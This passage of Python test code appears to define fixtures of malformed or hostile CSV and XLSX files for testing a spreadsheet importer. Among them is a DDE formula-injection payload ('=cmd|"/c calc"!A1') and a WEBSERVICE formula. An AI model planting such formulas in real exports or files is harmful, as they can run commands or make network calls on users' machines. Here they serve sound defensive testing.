    "a cell of a megabyte": ("cell.csv", lambda: b'a,b\n"' + b"x" * 1_000_000 + b'",2\n'),
    "a quote that never ends": ("quote.csv", lambda: b'a,b\n"1,2\n' * 3 + b'"'),
    "rows of different length": ("ragged.csv", lambda: b"a,b\n1\n1,2,3\n"),
    "CSV in UTF-16": ("wide.csv", lambda: "a,b\n1,2\n".encode("utf-16")),
    "CSV in an old encoding": ("latin.csv", lambda: "a,b\ncaf\u00e9,2\n".encode("latin-1")),
    "CSV of nothing but lines": ("lines.csv", lambda: b"\n" * 500),
    "formulas in CSV": ("formula.csv", lambda: b'=cmd|"/c calc"!A1,b\n=1+1,@SUM(A1)\n'),
    "formulas in a workbook": ("formula.xlsx", lambda: cells('<row r="1"><c r="A1"><f>WEBSERVICE("x")</f></c></row>')),
    "a workbook without a sheet": ("none.xlsx", lambda: office(XLSX)),
    "a sheet that is no XML": ("broken.xlsx", lambda: _with_part(workbook(), "xl/worksheets/sheet1.xml", b"<row")),
    "a cell with no column": ("odd.xlsx", lambda: cells('<row r="0"><c r="1"><v>1</v></c></row>')),
    "a date that no calendar has": (
        "date.xlsx",
        lambda: cells('<row r="1"><c r="A1" t="d"><v>9999-99-99</v></c></row>'),
    ),
    "words that are not in the list of words": (
        "word.xlsx",
        lambda: cells('<row r="1"><c r="A1" t="s"><v>99</v></c></row>'),
    ),
    "a number as long as a book": (
        "number.xlsx",
        lambda: cells(f'<row r="1"><c r="A1"><v>{"9" * 9_000}</v></c></row>'),
    ),
}
